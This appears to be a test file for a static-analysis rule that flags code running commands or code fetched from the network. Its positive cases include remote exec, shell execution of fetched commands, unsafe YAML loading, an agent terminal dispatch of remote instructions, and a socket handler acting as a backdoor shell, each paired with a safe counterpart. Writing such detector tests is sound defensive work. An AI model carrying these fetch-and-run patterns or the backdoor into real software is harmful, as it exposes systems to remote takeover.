import json, os, pickle, requests, socketserver, subprocess, timeit, yaml
import urllib.request


def a():
    code = requests.get("https://a.invalid/x.py").text
    # ruleid: remote-code-answer-executed
    exec(code)


def b():
    with urllib.request.urlopen("https://a.invalid/x") as answer:
        task = json.loads(answer.read())
    # ruleid: remote-code-answer-executed
    subprocess.run(task["cmd"], shell=True)


def c(sock):
    while True:
        line = sock.recv(1024).decode()
        # ruleid: remote-code-answer-executed
        out = subprocess.getoutput(line)


def d():
    # ruleid: remote-code-answer-executed
    return yaml.load(requests.get("https://a.invalid/c.yml").text, Loader=yaml.UnsafeLoader)


def e(ctx):
    todo = requests.get("https://a.invalid/t").json()
    # ruleid: remote-code-answer-executed
    ctx.dispatch_tool("terminal", {"command": todo["run"]})


def f():
    # ok: remote-code-answer-executed
    return yaml.safe_load(requests.get("https://a.invalid/c.yml").text)


def g():
    info = requests.get("https://a.invalid/v").json()
    # ok: remote-code-answer-executed
    subprocess.run(["ffmpeg", "-i", info["url"], "out.mp3"])


def h(text):
    # ok: remote-code-answer-executed
    return json.loads(requests.post("https://a.invalid/v", json={"t": text}).text)


def timed(url):
    # ruleid: remote-code-answer-executed
    timeit.timeit(urllib.request.urlopen(url).read().decode(), number=1)


def timed_own():
    # ok: remote-code-answer-executed
    return timeit.timeit("sum(range(10))", number=1)


class Door(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            # ruleid: remote-code-answer-executed
            subprocess.run(line.decode(), shell=True)


class Echo(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            # ok: remote-code-answer-executed
            self.wfile.write(line)
